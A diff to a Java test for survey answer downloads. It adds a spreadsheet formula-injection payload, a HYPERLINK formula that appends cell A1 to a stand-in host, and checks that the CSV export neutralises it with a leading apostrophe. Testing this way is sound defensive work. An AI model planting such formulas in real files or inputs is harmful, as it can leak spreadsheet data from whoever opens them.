@@ -53,6 +53,9 @@ class SurveyDownloadsTest {
     /** A comment with a comma, quotes, a line break and Japanese, as a customer may write one. */
     private static final String COMMENT = "速い, \"とても\" 便利\n次も使います";
 
+    /** A comment a spreadsheet would read as a formula making a link, as a respondent may write to attack. */
+    private static final String FORMULA = "=HYPERLINK(\"https://example.com/?\"&A1, \"Fast\")";
+
     private static final Pattern ANSWER_ROW = Pattern.compile("<td class=\"comment\"");
 
     @Value("${local.server.port}")
@@ -85,7 +88,7 @@ class SurveyDownloadsTest {
         assertThat(invited).extracting(Invitation::customerId).containsExactlyInAnyOrder("c01", "c02", "c03", "c04");
         answer(workspace, invited, "c01", "2025-03-02T01:02:03Z", 10, COMMENT, Language.JA);
         answer(workspace, invited, "c02", "2025-03-03T00:00:00Z", 6, null, Language.JA);
-        answer(workspace, invited, "c03", "2025-03-04T12:30:00Z", 9, "Fast, friendly", Language.EN);
+        answer(workspace, invited, "c03", "2025-03-04T12:30:00Z", 9, FORMULA, Language.EN);
 
         new SurveyCollection(workspace)
                 .create(NewSurvey.of(
@@ -203,7 +206,8 @@ class SurveyDownloadsTest {
     /**
      * Every answer to dl-nps, oldest first, the times in Tokyo (UTC+9): 01:02:03 UTC on 2 March is 10:02:03,
      * midnight UTC on 3 March is 09:00, 12:30 UTC on 4 March is 21:30. Nobody had contacts, so no user ids; c04
-     * did not answer. The comment with a comma, quotes, a line break and Japanese comes back as it was given.
+     * did not answer. The comment with a comma, quotes, a line break and Japanese comes back as it was given;
+     * c03's, which Excel would read as a formula, behind an apostrophe that makes it text.
      */
     @Test
     void everyAnswerDownloadsWithItsCommentAsGiven() {
@@ -226,7 +230,7 @@ class SurveyDownloadsTest {
                         responseIds.get("c01") + " | 2025-03-02T10:02:03+09:00 | c01 |  | 10 | ja",
                         responseIds.get("c02") + " | 2025-03-03T09:00:00+09:00 | c02 |  | 6 | ja",
                         responseIds.get("c03") + " | 2025-03-04T21:30:00+09:00 | c03 |  | 9 | en");
-        assertThat(rows).extracting(r -> r.getField("comment")).containsExactly(COMMENT, "", "Fast, friendly");
+        assertThat(rows).extracting(r -> r.getField("comment")).containsExactly(COMMENT, "", "'" + FORMULA);
         // Quoted as CSV quotes: the whole field in quotes, each quote doubled, the line break kept inside.
         assertThat(new String(response.body(), StandardCharsets.UTF_8)).contains("\"速い, \"\"とても\"\" 便利\n次も使います\"");
     }
